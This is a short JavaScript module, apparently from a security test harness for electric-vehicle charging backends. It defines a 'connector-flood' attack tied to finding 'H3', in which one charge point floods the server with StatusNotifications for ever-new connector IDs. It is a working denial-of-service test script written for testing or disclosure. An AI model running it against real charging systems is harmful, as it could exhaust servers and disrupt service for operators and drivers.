import { defineAttack } from '../attack.js'
import { sendFromAll } from '../calls.js'

export const connectorFlood = defineAttack({
  name: 'connector-flood',
  finding: 'H3',
  does: 'One charge point sends StatusNotifications of ever new connectors at the allowed rate.',
  chargePoints: 1,
  run: (attacker) =>
    sendFromAll(attacker, (number) => [
      'StatusNotification',
      { connectorId: 1 + number, errorCode: 'NoError', status: 'Available' },
    ]),
})
